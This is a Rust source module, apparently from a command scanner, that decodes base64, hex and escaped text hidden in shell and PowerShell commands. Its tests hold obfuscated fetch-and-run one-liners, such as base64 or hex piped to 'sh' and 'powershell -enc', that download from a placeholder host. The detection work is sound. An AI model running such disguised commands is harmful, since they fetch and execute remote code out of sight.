//! Commands that are hidden: `echo d2dldC… | base64 -d | sh`, `printf '\x77\x67…'`, `echo 7767… | xxd -r -p`.

/// The shortest word that is decoded, in bytes. Shorter words may be anything, and a command with a URL is longer.
const SHORTEST: usize = 24;

/// The fewest escapes of a hidden text; one or two are a colour or a line end.
const ESCAPES: usize = 3;

/// Returns the texts that are encoded in a command which decodes base64 or hexadecimal digits. Takes time linear in the command.
pub(super) fn payloads(text: &str) -> impl Iterator<Item = String> + '_ {
    let decodes = ["base64", "b64decode", "Base64", "-enc", "-Enc"]
        .iter()
        .any(|name| text.contains(name));
    let words = decodes.then(|| text.split(|c: char| !is_digit(c) && c != '='));
    let in_base64 = words
        .into_iter()
        .flatten()
        .filter(|word| word.len() >= SHORTEST)
        .filter_map(decoded);
    let is_hex = text.contains("xxd -") || text.contains("unhexlify") || text.contains("fromhex");
    let words = is_hex.then(|| text.split(|c: char| !c.is_ascii_hexdigit()));
    let in_hex = words
        .into_iter()
        .flatten()
        .filter(|word| word.len() >= SHORTEST)
        .filter_map(|word| text_of(hex::decode(word).ok()?));
    in_base64.chain(in_hex).chain(unescaped(text))
}

/// Returns the text with `\x77`, `\167` and `\0167` as the bytes that they stand for in `printf` and `echo -e`, if there are
/// some and the result is text.
fn unescaped(text: &str) -> Option<String> {
    let mut bytes = Vec::new();
    let mut escapes = 0;
    let mut rest = text.as_bytes();
    while let Some((&byte, after)) = rest.split_first() {
        let escape = (byte == b'\\').then(|| escape(after)).flatten();
        let (byte, length) = escape.unwrap_or((byte, 0));
        escapes += usize::from(length > 0);
        bytes.push(byte);
        rest = &after[length..];
    }
    (escapes >= ESCAPES).then(|| text_of(bytes)).flatten()
}

/// Reads an escape behind its backslash: the byte, and the number of characters of the escape.
fn escape(text: &[u8]) -> Option<(u8, usize)> {
    let (digits, base, before) = match text {
        [b'x', digits @ ..] => (digits.get(..2)?, 16, 1),
        [b'0', digits @ ..] => (digits.get(..3)?, 8, 1),
        digits => (digits.get(..3)?, 8, 0),
    };
    // a sign is no digit
    let all = digits.iter().all(u8::is_ascii_hexdigit);
    let digits = std::str::from_utf8(digits).ok().filter(|_| all)?;
    let byte = u8::from_str_radix(digits, base).ok()?;
    Some((byte, before + digits.len()))
}

fn is_digit(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '+' || c == '/'
}

/// Returns the text that a word encodes; `None` if the decoded bytes are no text.
pub(crate) fn decoded(word: &str) -> Option<String> {
    let digits = word.trim_end_matches('=');
    let mut bytes = Vec::with_capacity(digits.len() / 4 * 3 + 2);
    for group in digits.as_bytes().chunks(4) {
        let mut bits = 0;
        for digit in group {
            bits = bits << 6 | value(*digit)?;
        }
        let missing = 4 - group.len();
        let [_, three @ ..] = (bits << (6 * missing)).to_be_bytes();
        bytes.extend_from_slice(three.get(..3 - missing.min(2))?);
    }
    text_of(bytes)
}

fn text_of(bytes: Vec<u8>) -> Option<String> {
    let text = match of_windows(&bytes) {
        Some(text) => text,
        None => String::from_utf8(bytes).ok()?,
    };
    let is_text = |c: char| !c.is_control() || matches!(c, '\n' | '\r' | '\t');
    text.chars().all(is_text).then_some(text)
}

/// Reads UTF-16 of ASCII characters only, as `powershell -EncodedCommand` takes it.
fn of_windows(bytes: &[u8]) -> Option<String> {
    let (pairs, rest) = bytes.as_chunks::<2>();
    let wide = !pairs.is_empty() && rest.is_empty() && pairs.iter().all(|pair| pair[1] == 0);
    wide.then(|| pairs.iter().map(|pair| char::from(pair[0])).collect())
}

fn value(digit: u8) -> Option<u32> {
    let value = match digit {
        b'A'..=b'Z' => digit - b'A',
        b'a'..=b'z' => digit - b'a' + 26,
        b'0'..=b'9' => digit - b'0' + 52,
        b'+' => 62,
        b'/' => 63,
        _ => return None,
    };
    Some(u32::from(value))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_what_is_encoded() {
        for (text, expected) in [
            (
                "echo d2dldCBodHRwOi8vYS5leGFtcGxlL3g= | base64 -d | sh",
                &["wget http://a.example/x"][..],
            ),
            (
                "python -c \"exec('Y3VybCBodHRwOi8vYS5leGFtcGxlL3h5'.decode('base64'))\"",
                &["curl http://a.example/xy"],
            ),
            (
                "base64 -d<<<'Y3VybCBodHRwOi8vYS5leGFtcGxlL3h5eg=='",
                &["curl http://a.example/xyz"],
            ),
            ("echo d2dldCBodHRwOi8vYS5leGFtcGxlL3g= | sh", &[]),
            (
                "printf '\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2fa.example/\\x78' | xargs wget",
                &["printf 'http://a.example/x' | xargs wget"],
            ),
            (
                "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00' > x",
                &[],
            ),
            (
                "echo -e '\\x68\\x74\\x74p://a.example/x'",
                &["echo -e 'http://a.example/x'"],
            ),
            (
                "printf '\\150\\0164\\164p://a.example/x'",
                &["printf 'http://a.example/x'"],
            ),
            ("echo -e '\\x1b[0m \\x41 \\+1a \\n \\x'", &[]),
            (
                "echo 7767657420687474703a2f2f612e6578616d706c65 | xxd -r -p | sh",
                &["wget http://a.example"],
            ),
            (
                "powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAA==",
                &["iwr http://a.example"],
            ),
            ("base64 AAAAB3NzaC1yc2EAAAADAQABAAABAQ== a=b=c", &[]),
            ("base64 d2dldCBodHRwOi8vYS5leGFtcG=xlL3g", &[]),
        ] {
            let found: Vec<String> = payloads(text).collect();
            assert_eq!(found, expected, "{text}");
        }
    }
}
